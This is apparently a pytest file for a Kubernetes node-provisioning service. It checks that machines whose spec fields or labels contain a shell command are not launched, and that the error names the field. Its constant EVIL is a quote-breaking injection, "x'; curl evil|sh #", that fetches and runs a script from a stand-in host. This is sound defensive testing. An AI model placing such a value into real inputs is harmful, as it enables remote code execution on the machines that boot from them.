"""A cluster that still has the CRDs of an older Karpenter: what they let through reaches no boot script (LCH-30)."""

from __future__ import annotations

import copy
import random
from collections.abc import AsyncIterator, Callable
from contextlib import suppress
from pathlib import Path
from typing import Any

import pytest

from local.cluster.storage.store import Store
from shared.concurrency.clock import SystemClock
from shared.domain import labels as keys
from shared.kube.client import Kube
from shared.redis.bus import RetryLater
from tests.services.conftest import (
    CRDS,
    Control,
    create_machine,
    create_node_claim,
    create_node_class,
    create_node_pool,
    create_pool,
    our_definitions,
)
from tests.support.cluster.fixture import connect, embedded_api_server, write_kubeconfig

EVIL = "x'; curl evil|sh #"
ANYTHING = {"type": "object", "x-kubernetes-preserve-unknown-fields": True}


def loosened(definition: dict[str, Any]) -> dict[str, Any]:
    """The same kind, with a schema that takes any object."""
    loose = copy.deepcopy(definition)
    for version in loose["spec"]["versions"]:
        version["schema"] = {"openAPIV3Schema": ANYTHING}
    return loose


@pytest.fixture
async def kube(tmp_path: Path) -> AsyncIterator[Kube]:
    store = Store(SystemClock(), random.Random(7))
    for definition in our_definitions():
        store.create(CRDS.plural, loosened(definition), group=CRDS.group)
    with embedded_api_server(store=store) as url:
        client = await connect(write_kubeconfig(tmp_path / "kubeconfig", url))
        yield client
        await client.close()


@pytest.mark.parametrize(
    ("spec", "field"),
    [
        (
            {"kubelet": {"evictionSoftGracePeriod": {"memory.available": EVIL}}},
            "spec.kubelet.evictionSoftGracePeriod[memory.available]",
        ),
        ({"kubelet": {"kubeReserved": {"memory": EVIL}}}, "spec.kubelet.kubeReserved.memory"),
        ({"kubelet": {"podsPerCore": EVIL}}, "spec.kubelet"),
        ({"taints": [{"key": "team", "effect": EVIL}]}, "spec.taints[team].effect"),
    ],
)
async def test_a_machine_with_a_value_that_is_a_command_is_not_launched(
    start: Callable[..., Any], kube: Kube, control: Control, capsys: pytest.CaptureFixture[str],
    spec: dict[str, Any], field: str,
) -> None:  # fmt: skip
    """Nothing starts, and the error names the field and not the command."""
    await create_pool(kube)
    await create_machine(kube, **spec)
    with suppress(RetryLater):
        await start().launch.launch("default-a")
    assert control.instances() == []
    assert f"{field}: " in capsys.readouterr().out


async def test_a_label_that_is_a_command_is_not_launched(
    start: Callable[..., Any], kube: Kube, control: Control, capsys: pytest.CaptureFixture[str]
) -> None:
    """A requirement becomes a label of the node."""
    await create_node_class(kube)
    await create_node_pool(kube)
    rule = {"key": "team", "operator": "In", "values": [EVIL]}
    types = {"key": keys.INSTANCE_TYPE, "operator": "In", "values": ["m5.large"]}
    await create_node_claim(kube, "default-a", requirements=[rule, types])
    await start().launch.launch("NodeClaim/default-a")
    assert control.instances() == []
    assert "spec.requirements[0].values: " in capsys.readouterr().out
